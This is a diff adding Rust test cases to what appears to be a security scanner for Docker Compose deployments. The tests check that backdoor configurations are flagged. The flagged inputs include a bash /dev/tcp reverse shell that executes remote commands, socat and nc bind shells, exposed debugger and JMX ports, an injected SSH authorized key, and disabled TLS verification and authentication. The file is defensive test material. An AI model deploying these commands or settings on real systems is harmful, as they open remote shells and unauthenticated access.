@@ -210,6 +210,145 @@ fn a_number_or_switch_that_can_leave_a_gate_out_is_not_harmless() {
 }
 
 #[test]
+fn a_literal_that_turns_a_check_off_or_hands_out_keys_is_said() {
+    all(&[
+        (
+            "DP-CMP-019 high",
+            "environment.SSLKEYLOGFILE",
+            &[],
+            app!("environment: {SSLKEYLOGFILE: /proc/1/fd/1}"),
+            app!("environment: {SSLKEYLOGFILE: /dev/null}"),
+        ),
+        (
+            "DP-CMP-019 high",
+            "environment.SKIP_VERIFY",
+            &[],
+            app!("environment: {SKIP_VERIFY: 'true'}"),
+            app!("environment: {SKIP_VERIFY: 'false'}"),
+        ),
+        (
+            "DP-CMP-019 high",
+            "environment.AUTH_ENABLED",
+            &[],
+            app!("environment: {AUTH_ENABLED: 'false'}"),
+            app!("environment: {AUTH_ENABLED: 'true'}"),
+        ),
+        (
+            "DP-CMP-019 high",
+            "environment.TEE_MODE",
+            &[],
+            app!("environment: {TEE_MODE: mock}"),
+            app!("environment: {TEE_MODE: tdx}"),
+        ),
+        (
+            "DP-CMP-019 medium",
+            "environment.LOG_PROMPTS",
+            &[],
+            app!("environment: {LOG_PROMPTS: '1'}"),
+            app!("environment: {LOG_PROMPTS: '0'}"),
+        ),
+        (
+            "DP-CMP-019 medium",
+            "environment.NODE_OPTIONS",
+            &[],
+            app!("environment: {NODE_OPTIONS: '--inspect'}"),
+            app!("environment: {NODE_OPTIONS: '--max-old-space-size=2048'}"),
+        ),
+    ]);
+}
+
+#[test]
+fn ways_in_are_known_by_what_is_done() {
+    all(&[
+        (
+            "DP-CMP-007 critical",
+            "services.app.command",
+            &[],
+            app!("command: [bash, -c, 'exec 3<>/dev/tcp/ctl.acme.io/443; while read -ru3 l; do $$l; done']"),
+            app!("command: [bash, -c, 'while read -r l; do echo got; done < /app/list']"),
+        ),
+        (
+            "DP-CMP-007 critical",
+            "services.app.command",
+            &[],
+            app!("command: [socat, 'TCP-LISTEN:9000,fork', 'EXEC:/bin/ash']"),
+            app!("command: [socat, 'TCP-LISTEN:9000,fork', 'TCP:web:8080']\n  web:\n    SERVICE"),
+        ),
+        (
+            "DP-CMP-007 critical",
+            "services.app.command",
+            &[],
+            app!("command: [nc, -lke, /bin/sh, '9000']"),
+            app!("command: [nc, -z, localhost, '9000']"),
+        ),
+        (
+            "DP-CMP-007 high",
+            "services.app.command",
+            &[],
+            app!("command: [socat, 'TCP-LISTEN:9000,fork', 'UNIX-CONNECT:/run/dstack.sock']"),
+            "",
+        ),
+        (
+            "DP-CMP-007 high",
+            "services.app.command",
+            &[],
+            app!("command: [python, -m, http.server, '8000', --directory, /]"),
+            app!("command: [python, -m, http.server, '8000', --directory, /app/public]"),
+        ),
+        (
+            "DP-CMP-007 high",
+            "services.app.command",
+            &[],
+            app!("command: [node, '--inspect=0.0.0.0:9229', /app/main.js]"),
+            app!("command: [node, '--max-old-space-size=2048', /app/main.js]"),
+        ),
+        (
+            "DP-CMP-007 high",
+            "services.app.command",
+            &[],
+            app!("command: [dlv, exec, /app/serve, --headless, '--listen=:2345']"),
+            app!("command: [/app/serve, '--listen=:2345']"),
+        ),
+        (
+            "DP-CMP-007 high",
+            "environment.JAVA_OPTS",
+            &[],
+            app!("environment: {JAVA_OPTS: '-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005'}"),
+            app!("environment: {JAVA_OPTS: '-Xmx1g -XX:+UseG1GC'}"),
+        ),
+        (
+            "DP-CMP-007 high",
+            "environment.JVM_FLAGS",
+            &[],
+            app!(
+                "environment: {JVM_FLAGS: '-Dcom.sun.management.jmxremote.port=1 -Dcom.sun.management.jmxremote.authenticate=false'}"
+            ),
+            app!("environment: {JVM_FLAGS: '-Dserver.port=9010'}"),
+        ),
+        (
+            "DP-CMP-007 high",
+            "configs.0.target",
+            &[],
+            app!(
+                "configs: [{source: k, target: /home/app/.ssh/authorized_keys}]\nconfigs: {k: {content: 'ssh-ed25519 AAAA'}}"
+            ),
+            app!("configs: [{source: k, target: /etc/motd}]\nconfigs: {k: {content: hello}}"),
+        ),
+        (
+            "DP-CMP-007 high",
+            "configs.k.content",
+            &[],
+            app!(
+                "configs: [{source: k, target: /etc/caddy/Caddyfile}]\nconfigs: {k: {content: '{ admin 0.0.0.0:2019 }'}}"
+            ),
+            app!(
+                "configs: [{source: k, target: /etc/caddy/Caddyfile}]\nconfigs: {k: {content: '{ admin off }'}}"
+            ),
+        ),
+    ]);
+}
+
+#[test]
 fn an_unread_script_of_the_start_is_never_green() {
     let context = || Context { events: Some(events(kms(1))), ..Context::default() };
     let compose = format!("services:\n  app:\n    image: ghcr.io/acme/app@sha256:{}\n", "3f".repeat(32));
